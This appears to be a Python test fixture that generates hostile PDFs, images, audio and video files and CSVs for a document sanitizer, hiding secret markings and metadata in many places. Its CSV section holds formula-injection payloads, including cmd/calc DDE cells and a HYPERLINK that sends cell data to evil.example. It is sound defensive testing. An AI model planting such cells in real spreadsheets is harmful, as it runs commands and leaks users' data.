"""Hostile PDFs, tables and sounds: words on no page, photos in every coding, cells that are orders.

It must not run anything; every file is made here by code, and is small.
"""

import base64
import struct
import zlib
from collections.abc import Iterator

from tests.examples.hostile_case import FileCase
from tests.small_files import box, exif, jpeg, mp4, pdf, segment, svg

_MARK = ("dau-mat",)
_SECRET = "<FEFF" + "TỐI MẬT".encode("utf-16-be").hex() + ">"
PHOTO = jpeg(more=segment(0xE1, b"Exif\0\0" + exif(1)))


def paper_cases() -> Iterator[FileCase]:
    """All of them."""
    for cases in (_words, _photos, _tables, _sounds):
        yield from cases()


def _stream(facts: str, data: bytes) -> str:
    return f"<< {facts} /Length {len(data)} >>\nstream\n{data.decode('latin-1')}\nendstream"


def _words() -> Iterator[FileCase]:
    """A mark wherever a PDF keeps words."""
    for name, extra in {
        "muc-luc": f"/Outlines << /First << /Title {_SECRET} >> >>",
        "lop": f"/OCProperties << /OCGs [<< /Type /OCG /Name {_SECRET} >>] >>",
        "nhan-trang": f"/PageLabels << /Nums [0 << /P {_SECRET} >>] >>",
        "mo-ta": f"/StructTreeRoot << /K << /S /Figure /Alt {_SECRET} >> >>",
        "thay": f"/StructTreeRoot << /K << /S /Span /ActualText {_SECRET} >> >>",
        "o-nhap": f"/AcroForm << /Fields [<< /FT /Tx /T (a) /V {_SECRET} >>] >>",
        "o-goi-y": f"/AcroForm << /Fields [<< /FT /Tx /T (a) /TU {_SECRET} >>] >>",
        "o-chon": f"/AcroForm << /Fields [<< /FT /Ch /T (a) /Opt [[(1) {_SECRET}]] >>] >>",
        "cho": f"/Names << /Dests << /Names [{_SECRET} [3 0 R /Fit]] >> >>",
    }.items():
        yield FileCase(f"chu-{name}.pdf", pdf("x", extra), _MARK)
    xmp = "<x><dc:title xmlns:dc='dc'>TỐI MẬT</dc:title></x>".encode()
    yield FileCase(
        "chu-xmp.pdf", pdf("x", "/Metadata 6 0 R", (_stream("/Type /Metadata /Subtype /XML", xmp),)), _MARK
    )
    yield FileCase("chu-tieu-de.pdf", pdf("x", info=f"/Title {_SECRET}"), _MARK)
    yield FileCase("chu-tac-gia.pdf", pdf("x", info="/Author (TOI MAT)"), _MARK)
    note = f"/Annots [<< /Subtype /FreeText /Rect [0 0 9 9] /Contents {_SECRET} >>]"
    yield FileCase("chu-o-chu.pdf", pdf("x", page=note), _MARK)
    note = f"/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents {_SECRET} >>]"
    yield FileCase("chu-ghi-chu.pdf", pdf("x", page=note), (*_MARK, "pdf-ghi-chu"))
    drawn = b"BT /F1 12 Tf 2 5 Td (TUYET MAT) Tj ET"
    form = _stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 90 20] /Resources << /Font << /F1 5 0 R >> >>", drawn
    )
    stamp = "/Annots [<< /Subtype /Stamp /F 4 /Rect [0 0 90 20] /AP << /N 6 0 R >> >>]"
    yield FileCase("chu-con-dau.pdf", pdf("x", "", (form,), page=stamp), _MARK)
    inside = f"/Span << /ActualText {_SECRET} >> BDC (x) Tj EMC".encode()
    content = _stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", inside)
    yield FileCase("chu-trong-lenh.pdf", pdf("x", "/X 6 0 R", (content,)), _MARK)
    names = f"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /UF {_SECRET} >>] >> >>"
    yield FileCase("chu-ten-nhung.pdf", pdf("x", names), (*_MARK, "pdf-lam-sach"))


def _photos() -> Iterator[FileCase]:
    """Photos lose what cameras wrote, whatever they are packed in."""
    hexed, packed = PHOTO.hex().encode() + b">", zlib.compress(PHOTO)
    base85 = base64.a85encode(PHOTO) + b"~>"
    for name, coding, data in (
        ("mot", "[/DCTDecode]", PHOTO),
        ("tat", "/DCT", PHOTO),
        ("tat-mang", "[/DCT]", PHOTO),
        ("nen", "[/FlateDecode /DCTDecode]", packed),
        ("nen-tat", "[/Fl /DCT]", packed),
        ("hex", "[/ASCIIHexDecode /DCTDecode]", hexed),
        ("hex-tat", "[/AHx /DCT]", hexed),
        ("85", "[/ASCII85Decode /DCTDecode]", base85),
        ("ba-lop", "[/AHx /Fl /DCT]", packed.hex().encode() + b">"),
        ("nen-thong-so", "[/FlateDecode /DCTDecode] /DecodeParms [null null]", packed),
    ):
        image = _stream(f"/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter {coding}", data)
        yield FileCase(
            f"anh-{name}.pdf",
            pdf("x", "/X 6 0 R", (image,)),
            (),
            (b"Camera", b"43616d657261", packed, base85),
            (b"DCTDecode",),
        )
    inline = b"BI /W 8 /H 8 /CS /G /BPC 8 /F /DCT ID " + PHOTO + b" EI"
    content = _stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", inline)
    yield FileCase("anh-giua-lenh.pdf", pdf("x", "/X 6 0 R", (content,)), (), (b"Camera",))
    wave = (
        box(b"jP  ", b"\r\n\x87\n") + box(b"uuid", b"JpgTiffExif->JP2" + exif(1)) + box(b"jp2c", b"\xffO")
    )
    image = _stream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter /JPXDecode", wave)
    yield FileCase("anh-song.pdf", pdf("x", "/X 6 0 R", (image,)), (), (b"Camera",))
    held = f"data:image/jpeg;base64,{base64.b64encode(PHOTO).decode()}"
    told = base64.b64encode(b"Camera of An")[:12]
    drawing = svg(f'</text><image href="{held}"/><text>lành')
    yield FileCase("anh-trong-hinh.svg", drawing, (), (told, held.encode()), (b"data:image/jpeg;base64,",))


def _tables() -> Iterator[FileCase]:
    """Tables whose cells are orders, and numbers behind commas."""
    order = ("csv-cong-thuc",)
    for name, cell in {
        "bang": "=1+1",
        "cmd": "=cmd|'/c calc'!A0",
        "tru": "-2+3+cmd|' /C calc'!A0",
        "cong": "+1+A1",
        "a-cong": "@SUM(1+9)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
        "tab-chu": "\tabc",
        "rong": "＝1+1",
        "nhay": '"=HYPERLINK(""http://evil.example/?x=""&A1,""Xem"")"',
        "dong": '"\n=1+1"',
        "ham": "-sum(A1)",
        "web": "=WEBSERVICE(A1)",
    }.items():
        yield FileCase(f"o-{name}.csv", f"Tên,Số\nAn,{cell}\n".encode(), order)
    yield FileCase("o-cham-phay.csv", "Tên;Số\nAn;=cmd|' /C calc'!A0\n".encode(), order)
    yield FileCase("o-lan.csv", "Tên,Số\nAn;=cmd|' /C calc'!A0,5\n".encode(), order)
    yield FileCase("phay-mat.csv", "Độ mật,b\nMẬT,1\n".encode(), _MARK)
    people = "Họ tên,Số CCCD,ĐT\nNguyễn Văn A,001090123456,0912345678\n".encode()
    yield FileCase("phay-nguoi.csv", people, ("so-dinh-danh", "so-dien-thoai"))
    yield FileCase("phay-nguoi-nhay.csv", b'a,b\n"' + people, ("so-dinh-danh", "so-dien-thoai"))
    yield FileCase("phay-cmnd.csv", "TT,Số CMND\n1,123456789\n".encode(), ("so-dinh-danh",))
    yield FileCase("phay-nguoi.txt", people, ("so-dinh-danh", "so-dien-thoai"))
    yield FileCase("loi-hinh.svg", svg("x", ' aria-label="TỐI MẬT"'), _MARK)
    yield FileCase("gach-nguoi.csv", "Họ tên|Số CCCD\nAn|001090123456\n".encode(), ("so-dinh-danh",))


def _sounds() -> Iterator[FileCase]:
    """Tags of sounds and films become silence of the same length."""
    sound = b"\xff\xfb\x90\0" + b"\0" * 40
    tag = b"ID3\4\0\0\0\0\0\x10TPE1\0\0\0\2\0\0\0Nguyen"
    last = b"TAG" + b"Nguyen".ljust(125, b"\0")
    item = struct.pack("<II", 6, 0) + b"Artist\0Nguyen"
    ape = item + b"APETAGEX" + struct.pack("<IIII", 2_000, len(item) + 32, 1, 0) + b"\0" * 8
    for name, data in {
        "dau": tag + sound,
        "cuoi": sound + last,
        "ape": sound + ape,
        "ca-ba": tag + sound + ape + last,
    }.items():
        yield FileCase(f"the-{name}.mp3", data, (), (b"Nguyen",))
    yield FileCase(
        "the-tac-gia.m4a",
        mp4(
            box(
                b"udta",
                box(
                    b"meta", b"\0" * 4 + box(b"hdlr", b"\0" * 9) + box(b"ilst", box(b"\xa9ART", b"Nguyen"))
                ),
            )
        ),
        ("phim-lam-sach",),
        (b"Nguyen",),
    )
    xmp = box(b"uuid", bytes.fromhex("be7acfcb97a942e89c71999491e3afac") + b"Nguyen")
    yield FileCase("the-xmp.mp4", mp4() + xmp, (), (b"Nguyen",))
    tags = b"\x12\x54\xc3\x67\x86Nguyen"
    day = b"\x15\x49\xa9\x66\x8b\x44\x61\x88Nguyen!!"
    for name, inside in {"the": tags, "ngay": day}.items():
        segment_ = b"\x18\x53\x80\x67" + bytes([0x80 | len(inside)]) + inside
        yield FileCase(f"the-{name}.webm", b"\x1aE\xdf\xa3\x84\x42\x82\x81w" + segment_, (), (b"Nguyen",))
    info = b"LIST" + struct.pack("<I", 18) + b"INFOIART" + struct.pack("<I", 6) + b"Nguyen"
    wave = (
        b"WAVEfmt " + struct.pack("<I", 16) + b"\0" * 16 + info + b"data" + struct.pack("<I", 4) + b"\0" * 4
    )
    yield FileCase("the-info.wav", b"RIFF" + struct.pack("<I", len(wave)) + wave, (), (b"Nguyen",))
    told = b"\x0f\0\0\0ARTIST=Nguyen!!"
    head = b"OpusTags" + b"\4\0\0\0test" + b"\1\0\0\0" + told
    page = b"OggS\0\0" + b"\0" * 8 + b"\1\0\0\0\1\0\0\0\0\0\0\0\1" + bytes([len(head)]) + head
    yield FileCase("the-ogg.opus", b"OggS\0\2" + b"\0" * 20 + b"\1\x08OpusHead" + page, (), (b"Nguyen",))
